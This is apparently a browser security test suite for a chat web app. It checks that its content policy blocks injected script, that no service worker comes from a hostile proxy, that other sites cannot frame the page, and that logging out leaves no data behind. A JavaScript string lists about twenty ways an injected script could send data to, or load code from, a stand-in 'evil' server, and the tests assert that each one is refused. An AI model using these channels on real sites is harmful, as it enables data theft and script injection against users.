"""Script that got into the page, other code from the server, a frame around it, what stays at a shared computer."""

import hashlib
import re
import socket
import time
from urllib.request import urlopen

import pytest
from playwright.sync_api import expect

from tests.attacks.doors import Visitor
from tests.attacks.pages import listening
from tests.attacks.proxy import Answer
from tests.browser.people import Person
from tests.browser.profile import Profile

pytestmark = pytest.mark.browser

WAYS_OUT = """async (evil) => {
  const element = (name, attributes) => Object.assign(document.createElement(name), attributes);
  const add = (name, attributes) => document.body.append(element(name, attributes));
  const form = element("form", { action: `${evil}/form`, method: "post" });
  const ways = {
    fetch: () => fetch(`${evil}/fetch`, { mode: "no-cors" }),
    beacon: () => navigator.sendBeacon(`${evil}/beacon`, "x"),
    socket: () => new WebSocket(evil.replace("http", "ws") + "/socket"),
    stream: () => new EventSource(`${evil}/stream`),
    image: () => { new Image().src = `${evil}/image`; },
    style: () => document.head.append(element("link", { rel: "stylesheet", href: `${evil}/style` })),
    inline: () => add("style", { textContent: `@import url(${evil}/inline);` }),
    icon: () => document.head.append(element("link", { rel: "icon", href: `${evil}/icon` })),
    prefetch: () => document.head.append(element("link", { rel: "prefetch", href: `${evil}/prefetch` })),
    module: () => import(`${evil}/module.js`),
    jsonp: () => import("/api/me/?callback=run"),
    data: () => import("data:text/javascript,globalThis.__ran=1"),
    script: () => { element("script", {}).src = `${evil}/script`; },
    frame: () => add("iframe", { src: `${evil}/frame` }),
    object: () => add("object", { data: `${evil}/object` }),
    video: () => add("video", { src: `${evil}/video`, preload: "auto" }),
    form: () => { document.body.append(form); form.submit(); },
    base: () => document.head.append(element("base", { href: `${evil}/` })),
    worker: () => new Worker(`${location.origin}/static/js/main.js`),
    code: () => Function("globalThis.__ran = 1")(),
    timer: () => setTimeout("globalThis.__ran = 1", 0),
  };
  for (const way of Object.values(ways)) {
    try { await Promise.race([way(), new Promise((next) => setTimeout(next, 100))]); } catch { /* refused at once */ }
  }
  await fetch("/api/me/").catch(() => null);
  return { ran: globalThis.__ran ?? null, base: document.baseURI, ways: Object.keys(ways).length };
}"""
REFUSED = ("connect-src", "img-src", "style-src", "script-src", "form-action", "frame-src", "base-uri")
REFUSAL_SECONDS = 20
POLICY = "Content-Security-Policy"
REGISTER = """async () => {
  const tries = ["/static/js/main.js", "/sw.js", "/chat/"].map((path) => navigator.serviceWorker.register(path));
  const outcomes = await Promise.allSettled(tries);
  const left = await navigator.serviceWorker.getRegistrations();
  return { registered: outcomes.filter(({ status }) => status === "fulfilled").length, left: left.length };
}"""
LEFT_OVERS = """async () => {
  const answer = (request) => new Promise((done) => { request.onsuccess = () => done(request.result); });
  const rows = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await answer(indexedDB.open(name));
    for (const store of db.objectStoreNames) {
      const keys = await answer(db.transaction(store).objectStore(store).getAllKeys());
      rows.push(...keys.map(() => store));
    }
    db.close();
  }
  return {
    rows,
    caches: await caches.keys(),
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    local: Object.keys(localStorage).filter((name) => !["theme", "language"].includes(name)),
    session: Object.keys(sessionStorage),
    shown: document.querySelectorAll("message-bubble, conversation-row").length,
  };
}"""
EARS = """globalThis.__ears = [];
const add = EventTarget.prototype.addEventListener;
EventTarget.prototype.addEventListener = function (type, ...rest) {
  if (this === globalThis) globalThis.__ears.push(type);
  return add.call(this, type, ...rest);
};"""


def test_the_foreign_server_answers_beside_a_line_that_says_nothing():
    """Browsers connect ahead: who asks does not wait for such a line to end."""
    with listening() as stranger, socket.create_connection(stranger.socket.getsockname()) as silent:
        with urlopen(stranger.url, timeout=60) as answer:
            assert b"evil" in answer.read()
        silent.setblocking(False)
        with pytest.raises(BlockingIOError):  # still open
            silent.recv(1)
        assert len(stranger.came) == 1


def missing_refusals(profile: Profile) -> list[str]:
    """What the policy has not refused within its time, for the browser tells of some refusals only later."""
    deadline = time.monotonic() + REFUSAL_SECONDS
    while True:
        refused = " ".join(profile.violations())
        missing = [part for part in REFUSED if part not in refused]
        if not missing or time.monotonic() > deadline:
            return missing
        profile.page.wait_for_timeout(100)


def test_a83_script_in_the_page_finds_no_way_out_but_the_address_bar(stage):
    page = stage.hers.page
    with listening() as stranger:
        noted = len(stage.hers.complaints)
        outcome = page.evaluate(WAYS_OUT, stranger.url)
        assert missing_refusals(stage.hers) == []
        page.wait_for_timeout(300)  # for what would only now be asked for
        assert outcome["ran"] is None
        assert outcome["base"].startswith(stage.proxy.url)
        page.goto("about:blank")  # says nothing more
        assert stranger.came == []
        stage.hers.foreign.clear()  # asked for, and refused by the browser itself
        del stage.hers.complaints[noted:]
    stage.reopen()


def without_directive(name: str, answer: Answer) -> Answer:
    """Whose policy lacks it; each of our answers has a policy that has it."""
    policy = dict(answer.headers)[POLICY].split("; ")
    kept = [directive for directive in policy if directive.split()[0] != name]
    assert len(kept) == len(policy) - 1, policy
    headers = [(header, "; ".join(kept) if header == POLICY else value) for header, value in answer.headers]
    return Answer(answer.status, headers, answer.body)


def worker_offered(path: str, answer: Answer) -> Answer:
    if path != "/sw.js":
        return answer
    kept = answer.without("content-type")
    script = [("Content-Type", "text/javascript"), ("Service-Worker-Allowed", "/")]
    return Answer(200, [*kept.headers, *script], b"self.addEventListener('fetch', () => {});")


def test_a85_no_worker_comes_into_being_even_when_the_server_offers_one(hostile):
    hostile.proxy.answer = worker_offered
    noted = len(hostile.hers.complaints)
    assert hostile.hers.page.evaluate(REGISTER) == {"registered": 0, "left": 0}
    hostile.hers.page.goto("about:blank")  # says nothing more
    del hostile.hers.complaints[noted:]
    hostile.reopen()


@pytest.mark.parametrize("unknown", ["require-trusted-types-for", "worker-src"])
def test_a85_each_of_both_walls_holds_a_worker_off_by_itself(hostile, unknown):
    """As in a browser that does not know the directive of the other one."""

    def offer(path: str, answer: Answer) -> Answer:
        return worker_offered(path, without_directive(unknown, answer))

    hostile.proxy.answer = offer
    noted = len(hostile.hers.complaints)
    hostile.hers.page.goto("/about/")
    assert hostile.hers.page.evaluate(REGISTER) == {"registered": 0, "left": 0}
    hostile.hers.page.goto("about:blank")  # says nothing more
    del hostile.hers.complaints[noted:]
    hostile.proxy.honest()
    hostile.reopen()


@pytest.mark.thorough
def test_a88_no_other_site_frames_opens_or_talks_to_the_page(stage):
    with listening() as stranger:
        stranger.page = f"""<!doctype html><title>evil</title><iframe src="{stage.proxy.url}/chat/"></iframe>
            <a id="open" target="_blank" rel="opener" href="{stage.proxy.url}/about/">open</a>"""
        context = stage.chromium.new_context(storage_state=stage.hers.context.storage_state())
        context.add_init_script(EARS)
        page = context.new_page()
        page.goto(stranger.url)
        page.wait_for_load_state("networkidle")
        (framed,) = [frame for frame in page.frames if frame.parent_frame]
        assert framed.url.startswith("chrome-error:")
        with context.expect_page() as opened:
            page.locator("#open").click()
        opened.value.wait_for_load_state()
        assert opened.value.evaluate("window.opener") is None
        opened.value.goto(f"{stage.proxy.url}/chat/")
        expect(opened.value.locator("chat-app")).to_be_visible()
        assert "message" not in opened.value.evaluate("globalThis.__ears")
        assert opened.value.evaluate("globalThis.onmessage") is None
        context.close()


def test_a80_nothing_stays_at_a_shared_computer(hostile, profile_of):
    """Log-out takes the session and what is shown; forgetting takes the keys and messages too."""
    gone, person = profile_of(hostile), Person("guest", "Guest Gray")
    gone.new_account(person)
    gone.make_keys(person)
    bob = hostile.peers.make("hostess")
    bob.say(str(gone.context.request.get("/api/me/").json()["uid"]), "for your eyes only")
    gone.open_chat(bob.shown)
    gone.expect_message("for your eyes only")
    gone.open_menu()
    gone.part("forget", gone.page.locator("app-menu")).click()
    gone.page.locator("forget-dialog dialog[open] [data-part=go]").click()
    expect(gone.page.locator("key-import")).to_be_visible()
    nothing = {"rows": [], "caches": [], "workers": 0, "local": [], "session": [], "shown": 0}
    assert gone.page.evaluate(LEFT_OVERS) == nothing
    gone.page.goto("/account/")
    with gone.page.expect_response(re.compile("/logout/|/account/sessions/end/")) as ended:
        gone.page.locator("form[action$='/account/sessions/end/'] [type=submit]").click()
    assert ended.value.status == 302
    expect(gone.page).to_have_url(re.compile(r"/login/"))
    gone.page.wait_for_load_state()
    gone.page.go_back()
    expect(gone.page.locator("message-bubble, conversation-row, [data-part=factors]")).to_have_count(0)
    gone.page.goto("/chat/")
    expect(gone.page).to_have_url(re.compile(r"/login/"))
    assert gone.page.evaluate(LEFT_OVERS) == nothing


def test_a84_the_page_shows_its_build_and_names_it_to_the_server(hostile):
    hellos = []

    def listen(_way, frame):
        hellos.extend([frame] if frame["f"] == "hello" else [])
        return [frame]

    hostile.proxy.frame = listen
    hostile.reopen()
    manifest = hostile.hers.page.locator('script[type="importmap"]').text_content()
    build = hashlib.sha256(manifest.encode()).hexdigest()[:16]
    hostile.hers.open_menu()
    expect(hostile.hers.page.locator("app-menu [data-part=build]")).to_have_text(f"Program {build}")
    hostile.hers.expect_online()
    assert {hello["build"] for hello in hellos} == {build}  # the line may come back in between


def test_a80_the_log_out_tells_the_browser_to_forget_its_cache(stage):
    answer = stage.hers.context.request.get("/chat/")
    assert "no-store" in answer.headers["cache-control"]
    left = Visitor(stage.site.url).post("/logout/")
    assert (left.status, left.headers["Clear-Site-Data"]) == (302, '"cache"')
